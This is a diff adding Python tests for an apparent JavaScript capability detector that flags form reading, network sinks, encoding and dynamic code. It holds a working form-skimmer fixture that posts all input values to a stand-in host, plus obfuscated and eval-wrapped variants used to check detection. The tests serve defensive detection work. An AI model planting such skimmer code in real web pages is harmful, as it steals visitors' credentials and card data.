@@ -134,3 +134,71 @@ def test_any_text_featurizes(text: str) -> None:
 def test_decode_string_never_raises(s: str) -> None:
     for cls in (None, "b64", "hex", "word", "numlist", "pct", "entity"):
         F.decode_string(s, cls)
+
+
+def cap_ids(src: str) -> set[int]:
+    """Capability tokens (single and pairs) of a snippet."""
+    out: set[int] = set()
+    for ids, _ in feats(src).groups:
+        out.update(int(i) for i in ids)
+    return out
+
+
+def cap_token(name: str) -> int:
+    return int(F._mix(F.GROUP_CAPS, np.array([F.token_hash("\x04cap:" + name)], np.uint64))[0])
+
+
+def pair_token(a: str, b: str) -> int:
+    names = [n for n, _ in F.CAPABILITIES]
+    a, b = sorted((a, b), key=names.index)
+    h = F.token_hash(f"\x04pair:{a}:{b}")
+    return int(F._mix(F.GROUP_CAPS, np.array([h], np.uint64))[0])
+
+
+SKIMMER = (
+    "var d = {}; document.querySelectorAll('input').forEach(function (e) {"
+    " d[e.name] = e.value; });"
+    "document.addEventListener('submit', function () {"
+    " new Image().src = 'https://g.example/c?cc=' + btoa(JSON.stringify(d)); });"
+)
+
+
+def test_skimmer_behaviour_sets_capabilities_and_pairs() -> None:
+    fs = feats(SKIMMER)
+    assert {"form-read", "hook", "net-sink", "encode", "url"} <= set(F.capability_names(fs.caps))
+    ids = cap_ids(SKIMMER)
+    assert cap_token("form-read") in ids
+    assert pair_token("form-read", "net-sink") in ids
+    assert pair_token("hook", "net-sink") in ids
+
+
+def test_capabilities_survive_renaming_string_arrays_and_encoding() -> None:
+    renamed = (
+        "var _0x1a = ['querySelectorAll', 'input', 'value', 'addEventListener', 'submit',"
+        " 'src'];"
+        "var _0x2b = document[_0x1a[0]](_0x1a[1]);"
+        "document[_0x1a[3]](_0x1a[4], function () { var _0x3c = new Image();"
+        " _0x3c[_0x1a[5]] = atob('aHR0cHM6Ly9nLmV4YW1wbGUvYw==') + _0x2b[0][_0x1a[2]]; });"
+    )
+    assert pair_token("form-read", "net-sink") in cap_ids(renamed)
+    payload = base64.b64encode(SKIMMER.encode()).decode()
+    wrapped = f"eval(atob('{payload}'));"
+    fs = feats(wrapped)
+    assert {"form-read", "net-sink", "dyn-code"} <= set(F.capability_names(fs.caps))
+
+
+def test_plain_library_code_lacks_the_skimmer_pairs() -> None:
+    lib = (
+        "function add(a, b) { return a + b; }"
+        "var total = [1, 2, 3].reduce(add, 0); console.log('total', total);"
+    )
+    ids = cap_ids(lib)
+    assert pair_token("form-read", "net-sink") not in ids
+    assert feats(lib).caps == 0
+
+
+def test_capability_masks_of_unknown_tokens_are_zero() -> None:
+    toks = np.array([F.token_hash("value"), F.token_hash("zzzunknown")], np.uint64)
+    masks = F.capability_masks(toks)
+    assert masks[0] != 0 and masks[1] == 0
+    assert F.capability_masks(np.zeros(0, np.uint64)).shape == (0,)
